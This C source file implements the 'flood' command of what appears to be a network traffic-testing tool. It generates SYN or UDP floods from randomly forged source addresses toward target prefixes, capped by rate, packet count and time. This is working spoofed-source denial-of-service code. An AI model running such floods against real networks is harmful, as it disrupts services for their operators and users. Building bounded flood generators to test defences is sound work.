// SPDX-License-Identifier: GPL-2.0-only
/*
 * A flood from forged sources: each packet from a random address and port. It
 * is bounded by number and by time, whatever happens.
 */
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "raw.h"
#include "traffic.h"

static const char usage[] =
	"usage: traffic flood syn|udp -i INTERFACE -g GATEWAY-MAC -s SOURCES -d DESTINATIONS\n"
	"                     [-p PORT] -r RATE -n COUNT -t SECONDS [-S SEED]\n"
	"SOURCES, DESTINATIONS: prefixes to choose from; without PORT that is random, too\n";

static struct raw raw;

static uint32_t choose(const struct prefix *prefix, uint64_t bits)
{
	return prefix->net + (uint32_t)(bits & (prefix->size - 1));
}

static void send_one(bool syn, const struct prefix *sources,
		     const struct prefix *destinations, uint16_t port)
{
	uint64_t a = random64(), b = random64();
	uint32_t saddr = choose(sources, a);
	uint32_t daddr = choose(destinations, b);
	uint16_t sport = 1024 + (a >> 32) % 64512;
	uint16_t dport = port ? port : 1024 + (b >> 32) % 64512;
	struct segment s = {
		.saddr = saddr,
		.daddr = daddr,
		.sport = sport,
		.dport = dport,
		.seq = b >> 16,
		.flags = TH_SYN,
	};

	if (syn)
		raw_tcp(&raw, &s);
	else
		raw_udp(&raw, saddr, daddr, sport, dport);
}

int cmd_flood(int argc, char **argv)
{
	struct attack a = { 0 };
	uint64_t made = 0, due;
	double start, t;
	bool syn;
	int opt;

	if (argc < 2 || (strcmp(argv[1], "syn") && strcmp(argv[1], "udp"))) {
		fputs(usage, stderr);
		return 2;
	}
	syn = !strcmp(argv[1], "syn");
	seed_random(1);
	while ((opt = getopt(argc - 1, argv + 1, ATTACK_OPTIONS "S:")) != -1) {
		if (opt == 'S') {
			seed_random(parse_number(optarg, 0, 1e9));
		} else if (!attack_option(&a, opt, optarg)) {
			fputs(usage, stderr);
			return 2;
		}
	}
	if (!attack_complete(&a))
		die("flood: something is missing\n%s", usage);

	catch_signals();
	raw_open(&raw, a.dev, a.mac);
	start = now();
	while (!stopped && made < a.count && (t = now() - start) < a.seconds) {
		due = t * a.rate;
		if (due > a.count)
			due = a.count;
		/* Behind by more than a tenth: do not make up in one burst. */
		if (due > made + a.rate / 10 + 1)
			due = made + a.rate / 10 + 1;
		while (made < due) {
			send_one(syn, &a.sources, &a.target, a.port);
			made++;
		}
		raw_flush(&raw);
		poll(NULL, 0, 2);
	}
	printf("{\"sent\": %llu, \"refused\": %llu, \"seconds\": %.2f}\n",
	       (unsigned long long)raw.sent, (unsigned long long)raw.refused,
	       now() - start);
	return 0;
}
